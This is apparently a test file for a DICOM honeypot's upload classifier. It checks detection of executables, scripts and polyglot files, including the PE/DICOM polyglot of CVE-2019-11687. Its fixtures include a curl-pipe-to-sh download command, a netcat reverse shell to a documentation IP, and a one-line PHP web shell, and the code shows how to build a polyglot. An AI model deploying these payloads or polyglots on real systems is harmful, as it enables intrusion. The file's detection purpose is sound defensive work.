// contentKind on real samples built here: a minimal PE image, an ELF header, a shebang script, a real DICOM file
// (DCMTK dump2dcm) and the same file turned into the PE/DICOM polyglot of CVE-2019-11687 — which DCMTK's dcmdump
// still reads as DICOM while `file -k` (libmagic) finds both a DICOM image and a Windows executable in it.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { hawkEventSchema } from '../../../src/core/events/catalogue.ts';
import { contentInfo } from '../../../src/core/events/schema/common.ts';
import { contentKind, isExecutableOrPolyglot } from '../../../src/domain/quarantine/contentKind.ts';
import { splitPart10 } from '../../../src/domain/dicom/part10.ts';
import { makeDicomFile } from '../../helpers/dicomFiles.ts';

/** A minimal PE32 header: DOS stub with e_lfanew = 0x40, `PE\0\0`, a COFF header (i386, 0 sections) and an optional header magic. */
function minimalPe(): Buffer {
  const b = Buffer.alloc(0x80);
  b.write('MZ', 0, 'latin1');
  b.writeUInt16LE(0x90, 2); // bytes on last page
  b.writeUInt32LE(0x40, 0x3c); // e_lfanew
  b.write('PE\0\0', 0x40, 'latin1');
  b.writeUInt16LE(0x014c, 0x44); // Machine: i386
  b.writeUInt16LE(0, 0x46); // NumberOfSections
  b.writeUInt16LE(0x60, 0x54); // SizeOfOptionalHeader (header continues past this sample)
  b.writeUInt16LE(0x0102, 0x56); // Characteristics: EXECUTABLE_IMAGE | 32BIT_MACHINE
  b.writeUInt16LE(0x010b, 0x58); // optional header magic: PE32
  return b;
}

/** A 64-bit little-endian ELF header of an x86-64 executable (e_type EXEC). */
function minimalElf(): Buffer {
  const b = Buffer.alloc(64);
  b.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], 0); // magic, ELFCLASS64, ELFDATA2LSB, EV_CURRENT, SYSV ABI
  b.writeUInt16LE(2, 16); // ET_EXEC
  b.writeUInt16LE(0x3e, 18); // EM_X86_64
  b.writeUInt32LE(1, 20); // e_version
  b.writeBigUInt64LE(0x401000n, 24); // e_entry
  b.writeUInt16LE(64, 52); // e_ehsize
  return b;
}

/** Every libmagic match (`file -k`: keep going after the first). */
function libmagic(path: string): string {
  return execFileSync('file', ['-k', '-b', path], { encoding: 'utf8' }).trim();
}

const dir = mkdtempSync(join(tmpdir(), 'dh-content-'));
after(() => rmSync(dir, { recursive: true, force: true }));

const dicomFile = makeDicomFile(dir, 'ct', { patientName: 'Test^Patient', patientId: 'P1', studyUid: '1.2.3.4', seriesUid: '1.2.3.4.1', sopUid: '1.2.3.4.1.1' });
const dicom = readFileSync(dicomFile);

describe('contentKind: what an upload is, by its bytes', () => {
  test('a minimal PE image, an ELF executable and a shebang script are executables (and libmagic agrees)', () => {
    const samples: Array<[string, Buffer, string, RegExp]> = [
      ['a.bin', minimalPe(), 'pe', /PE32 executable|MS-DOS executable/],
      ['b.bin', minimalElf(), 'elf', /ELF 64-bit LSB executable, x86-64/],
      ['c.txt', Buffer.from('#!/bin/sh\ncurl -s http://198.51.100.1/x | sh\n'), 'script', /shell script/],
    ];
    for (const [name, bytes, kind, magic] of samples) {
      writeFileSync(join(dir, name), bytes);
      assert.match(libmagic(join(dir, name)), magic, name);
      assert.deepEqual(contentKind(bytes), { kind, polyglot: false, embedded: null, executable: true }, name);
    }
  });

  test('other executables and scripts: Mach-O (thin, fat), Java class, DEX, PHP with a byte order mark', () => {
    const cases: Array<[number[] | string, string]> = [
      [[0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1], 'macho'],
      [[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2, 1, 0, 0, 7], 'macho'],
      [[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52], 'java-class'],
      ['dex\n035\0', 'dex'],
      ['\ufeff<?PHP system($_GET["c"]); ?>', 'script'],
    ];
    for (const [bytes, kind] of cases) {
      const c = contentKind(typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : Buffer.from(bytes));
      assert.equal(c.kind, kind, String(bytes));
      assert.equal(c.executable, true, String(bytes));
    }
  });

  test('a DICOM Part 10 file with the usual zero preamble is plain DICOM; its data set alone (as C-STORE carries it) too', () => {
    assert.deepEqual(contentKind(dicom), { kind: 'dicom', polyglot: false, embedded: null, executable: false });
    const dataset = dicom.subarray(splitPart10(dicom)!.datasetOffset);
    assert.deepEqual(contentKind(dataset), { kind: 'dicom-dataset', polyglot: false, embedded: null, executable: false });
    assert.equal(isExecutableOrPolyglot(contentKind(dicom)), false);
  });

  test('the PE/DICOM polyglot (CVE-2019-11687): a PE header in the 128-byte preamble of a valid DICOM file', () => {
    const poly = Buffer.from(dicom);
    minimalPe().copy(poly, 0, 0, 128);
    const path = join(dir, 'poly.dcm');
    writeFileSync(path, poly);
    // Both readers accept it: that is the danger.
    const dump = spawnSync('dcmdump', [path], { encoding: 'utf8' });
    assert.equal(dump.status, 0, dump.stderr);
    assert.match(dump.stdout, /\(0010,0010\) PN \[Test\^Patient\]/);
    const magic = libmagic(path);
    assert.match(magic, /^DICOM medical imaging data/);
    assert.match(magic, /PE32 executable/);
    const c = contentKind(poly);
    assert.deepEqual(c, { kind: 'dicom', polyglot: true, embedded: 'pe', executable: true });
    assert.equal(isExecutableOrPolyglot(c), true);
  });

  test('an ELF header or a script in the preamble is as bad; a PDF there is a polyglot, not an executable', () => {
    const elfPoly = Buffer.from(dicom);
    minimalElf().copy(elfPoly, 0);
    assert.deepEqual(contentKind(elfPoly), { kind: 'dicom', polyglot: true, embedded: 'elf', executable: true });
    const shPoly = Buffer.from(dicom);
    shPoly.write('#!/bin/sh\nexec nc -e /bin/sh 198.51.100.1 4444\n#', 0, 'latin1');
    assert.deepEqual(contentKind(shPoly), { kind: 'dicom', polyglot: true, embedded: 'script', executable: true });
    const pdfPoly = Buffer.from(dicom);
    pdfPoly.write('%PDF-1.7\n', 0, 'latin1');
    const c = contentKind(pdfPoly);
    assert.deepEqual(c, { kind: 'dicom', polyglot: true, embedded: 'pdf', executable: false });
    assert.equal(isExecutableOrPolyglot(c), true);
  });

  test('a ZIP appended to a DICOM file or an image (GIFAR) is a polyglot; a plain ZIP is not', () => {
    const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), Buffer.alloc(26), Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(16), Buffer.from([3, 0]), Buffer.from('hi!')]);
    assert.deepEqual(contentKind(zip), { kind: 'zip', polyglot: false, embedded: null, executable: false });
    assert.deepEqual(contentKind(Buffer.concat([dicom, zip])), { kind: 'dicom', polyglot: true, embedded: 'zip', executable: false });
    const gif = Buffer.concat([Buffer.from('GIF89a', 'latin1'), Buffer.alloc(40, 1), zip]);
    assert.deepEqual(contentKind(gif), { kind: 'gif', polyglot: true, embedded: 'zip', executable: false });
    // An EOCD signature whose comment length does not reach the end is not a trailer.
    const fake = Buffer.concat([dicom, Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18), Buffer.from('tail')]);
    assert.equal(contentKind(fake).polyglot, false);
  });

  test('documents, images, text and the rest', () => {
    const cases: Array<[Buffer, string]> = [
      [Buffer.from('%PDF-1.4\n%âãÏÓ\n', 'latin1'), 'pdf'],
      [Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]), 'png'],
      [Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), 'jpeg'],
      [Buffer.from('II*\0\x08\0\0\0', 'latin1'), 'tiff'],
      [Buffer.from([0x1f, 0x8b, 8, 0]), 'gzip'],
      [Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'ole'],
      [Buffer.from('  \n<!DOCTYPE html><html>', 'latin1'), 'html'],
      [Buffer.from('PatientName,PatientID\nDoe^J,123\n'), 'text'],
      [Buffer.alloc(0), 'empty'],
      [Buffer.from([0x00, 0x01, 0xfe, 0x03, 0x99, 0x00, 0x00, 0x00, 0x07]), 'unknown'],
    ];
    for (const [bytes, kind] of cases) {
      const c = contentKind(bytes);
      assert.equal(c.kind, kind, bytes.toString('latin1'));
      assert.equal(c.executable, false);
      assert.equal(c.polyglot, false);
    }
  });

  test('a large upload is classified by its head (64 MiB with an ELF header)', () => {
    const big = Buffer.alloc(64 * 1024 * 1024);
    minimalElf().copy(big, 0);
    const c = contentKind(big);
    assert.equal(c.kind, 'elf');
    assert.equal(contentInfo.safeParse(c).success, true);
  });

  test('the result fits the store event schema', () => {
    const poly = Buffer.from(dicom);
    minimalPe().copy(poly, 0, 0, 128);
    const e = {
      eventid: 'dicomhawk.dimse.store', timestamp: '2026-11-28T10:00:00.000Z', session: 's', sensor: 't', protocol: 'dimse', src_ip: '198.51.100.1', src_port: 1,
      dst_ip: '192.0.2.1', dst_port: 104, schema_version: 1, message: 'm', message_id: 1, sop_class: '1.2', sop_instance: '1.2.3', transfer_syntax: '1.2.840.10008.1.2',
      size: poly.length, sha256: null, quarantine_id: null, status: 0, content: contentKind(poly),
    };
    assert.equal(hawkEventSchema.safeParse(e).success, true);
  });
});
